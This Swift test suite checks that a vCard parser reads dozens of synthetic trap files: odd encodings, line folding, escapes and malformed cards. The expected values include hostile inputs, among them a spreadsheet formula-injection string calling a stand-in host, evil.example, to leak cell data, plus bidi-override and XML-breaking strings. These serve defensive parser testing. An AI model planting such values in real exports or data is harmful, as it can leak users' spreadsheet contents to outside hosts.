import Foundation
import KithCore
import Testing

/// What each file of traps says, by its name and by the RFCs.
@Suite struct TrapTests {
  private static let folder = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
    .deletingLastPathComponent().deletingLastPathComponent().appendingPathComponent("shared/corpora/vcard/synthetic")

  /// FN of each card; N of the first, its parts between `|`; its notes.
  struct Trap: Sendable, CustomTestStringConvertible {
    var file: String
    var names: [String]
    var parts: String
    var notes: [String]

    init(_ file: String, _ names: [String], _ parts: String, _ notes: [String] = []) {
      (self.file, self.names, self.parts, self.notes) = (file, names, parts, notes)
    }

    var testDescription: String { file }
  }

  private static let traps: [Trap] = [
    Trap("apple-full", ["Dr. Anna Mária Kovács"], "Kovács|Anna|Mária|Dr.", ["first line\nsecond, line"]),
    Trap("b64-21-nofold-indent", ["B A"], "A|B"),
    Trap("b64-bad-padding", ["Test Person"], "Person|Test"),
    Trap("b64-data-uri-escaped", ["Test Person"], "Person|Test"),
    Trap("b64-data-uri-upper", ["Test Person"], "Person|Test"),
    Trap("b64-key-pgp", ["Test Person"], "Person|Test"),
    Trap("begin-garbage-before", ["X"], "X"),
    Trap("bidi-zero-width", ["Jane\u{200b}Doe"], "Person|Test", ["\u{202e}evil\u{202c}\u{200b}\u{2066}x\u{2069}"]),
    Trap("bom-utf8", ["Test Person"], "Person|Test", ["BOM"]),
    Trap("commas-100k", ["Test Person"], "Person|Test"),
    Trap("cp1251-charset", ["Иван Иванов"], "Иванов|Иван"),
    Trap("dates", ["Test Person"], "Person|Test"),
    Trap("emoji-zwj", ["👩‍💻 🇭🇺"], "Person|Test"),
    Trap("end-truncated", ["Trunc"], "Trunc", ["cut off in the mid"]),
    Trap("eol-crcrlf", ["Test Person"], "Person|Test", ["double CR"]),
    Trap("eol-mixed", ["Mixed"], "Mixed", ["abcd"]),
    Trap("escape-all", ["Test Person"], "Person|Test", ["a\nb\nc\\d,e;f:g\\\"h\\xi\\"]),
    Trap("escape-org-semicolon", ["Test Person"], "Person|Test"),
    Trap("fn-n-both-missing", ["Company Only"], ""),
    Trap("fold-empty-lines", ["Blank Lines"], "Lines|Blank"),
    Trap("fold-in-escape", ["Test Person"], "Person|Test", ["one\nline, two"]),
    Trap("fold-in-param", ["Test Person"], "Person|Test"),
    Trap("fold-in-utf8", ["Zoë Fold"], "Fold|Zoë"),
    Trap("gb18030-charset", ["王小明"], "王|小明"),
    Trap("geo-tz", ["Test Person"], "Person|Test"),
    Trap("group-apple-30", ["Friends"], ""),
    Trap("group-names", ["Test Person"], "Person|Test", ["two dots"]),
    Trap("invalid-utf8", ["bad Ã( ÿ í\u{a0}€ À€ end"], ""),
    Trap("latin1-raw", ["André Müller"], "Müller|André", ["café Größe"]),
    Trap("line-without-colon", ["Test Person"], "Person|Test"),
    Trap("many-cards-one-line", ["A", "B"], "A"),
    Trap("n-7-components", ["Test Person"], "Stevenson|John|Philip,Paul|Dr.|Jr.,M.D.,A.C.P."),
    Trap("nel-ls-ps", ["Test Person"], "Person|Test", ["a\u{85}b\u{2028}c\u{2029}d"]),
    Trap("nested-agent-30", ["Test Person"], "Person|Test"),
    Trap("nested-in-vcalendar", ["Inside"], "Inside"),
    Trap("nul-bytes", ["nulinside"], "inside|nul"),
    Trap("param-altid-lang", ["Test Person"], "山田|太郎"),
    Trap("param-duplicate", ["Test Person"], "a|b"),
    Trap("param-nameless-21", ["B A"], "A|B"),
    Trap("param-pref-range", ["Test Person"], "Person|Test"),
    Trap("param-type-quoted-list", ["Test Person"], "Person|Test"),
    Trap("param-whitespace", ["Test Person"], "Person|Test"),
    Trap("qp-eats-next-line", ["B A"], "A|B", ["ends with equals="]),
    Trap("qp-semicolon-encoded", ["Ann, B Smith;Jones"], "Smith;Jones|Ann, B"),
    Trap("qp-softbreak", ["Jürgen Müller"], "Müller|Jürgen", ["line one\nline two\n end"]),
    Trap("related", ["Test Person"], "Person|Test"),
    Trap("rfc9554", ["Test Person"], "Person|Test", ["note"]),
    Trap("sjis-raw-5c", ["表 太郎"], "表|太郎"),
    Trap("ten-thousand-params", ["Test Person"], "Person|Test"),
    Trap("uid-forms", ["Test Person", "Test Person", "Test Person", "Test Person", "Test Person"], "Person|Test"),
    Trap("utf16le-bom", ["Test Person"], "Person|Test", ["Árvíztűrő 寿司"]),
    Trap("version-late", ["x"], "Müller|J"),
    Trap("version-space", ["Test Person"], "Person|Test"),
    Trap("x-formula", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"], "Tab", ["-2+3"]),
    Trap("xml-hostile", ["Test Person"], "Person|Test", ["]]><!--&amp;<b>\"'"]),
  ]

  private static func parts(_ name: PersonName?) -> String {
    guard let name else { return "" }
    var parts = [name.family, name.given, name.additional, name.prefixes, name.suffixes].map {
      $0.joined(separator: ",")
    }
    while parts.last?.isEmpty == true { parts.removeLast() }
    return parts.joined(separator: "|")
  }

  @Test(.enabled(if: FileManager.default.fileExists(atPath: TrapTests.folder.path)), arguments: TrapTests.traps)
  func isRead(_ trap: Trap) throws {
    let data = try Data(contentsOf: TrapTests.folder.appendingPathComponent(trap.file + ".vcf"))
    let reading = try read(bytes: [UInt8](data))
    #expect(reading.entities.map(\.name) == trap.names)
    #expect(TrapTests.parts(reading.entities.first?.personName) == trap.parts)
    #expect(reading.entities.first?.notes == trap.notes)
  }

  @Test(.enabled(if: FileManager.default.fileExists(atPath: TrapTests.folder.path)))
  func everyFileHasItsRow() throws {
    let files = try FileManager.default.contentsOfDirectory(atPath: TrapTests.folder.path).map {
      String($0.dropLast(4))
    }
    #expect(Set(files).subtracting(TrapTests.traps.map(\.file)) == ["empty", "only-bom"])
  }
}
